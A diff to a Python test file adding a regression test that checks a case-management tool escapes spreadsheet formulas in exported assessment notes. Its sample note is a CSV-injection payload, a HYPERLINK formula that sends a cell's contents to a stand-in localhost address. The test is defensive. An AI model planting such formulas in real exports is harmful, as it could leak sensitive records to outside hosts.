@@ -16,6 +16,7 @@ import pytest
 
 from apart_engine.instrument import AssessmentKind
 from bot import encryption
+from bot.admin_cli import write_export
 from bot.cli import main
 from bot.encryption import WrongKeyError, backup, file_state, reencrypt
 from bot.store import Adjustment, Role, Staff, Store, YoungPerson
@@ -210,6 +211,27 @@ class TestExportAndErasure:
         assert [c.young_person.reference for c in await store.caseload(staff)] == ["YP-P2"]
         assert "erase" in [e["action"] for e in record["audit"]]
         assert (await store.export_case(kept.id, "a test"))["assessments"][0]["notes"]
+
+    def test_a_note_that_is_a_formula_is_written_to_the_csv_as_text(self, tmp_path: Path) -> None:
+        """The QA probe: a note of =HYPERLINK(...) was a live formula in the case's CSV."""
+        formula = '=HYPERLINK("http://127.0.0.1/x?"&A1,"open")'
+        assessment = {
+            "id": 1,
+            "kind": "baseline",
+            "status": "submitted",
+            "assessed_on": "2026-01-12",
+            "answers": [],
+            "notes": [{"item_id": "R1", "text": formula}],
+            "band_adjustments": [{"section_id": "risk", "band": "-", "reason": "x"}],
+        }
+        record = {"young_person": {"reference": "YP-7K3Q"}, "assessments": [assessment]}
+
+        json_path, csv_path = write_export(record, tmp_path)
+
+        with csv_path.open(encoding="utf-8", newline="") as file:
+            rows = list(csv.DictReader(file))
+        assert [r["value"] for r in rows] == ["'" + formula, "'-: x"]
+        assert json.loads(json_path.read_text("utf-8")) == record
 
     async def test_retention_lists_closed_cases_past_the_period(self, store: Store) -> None:
         staff = await _practitioner(store)
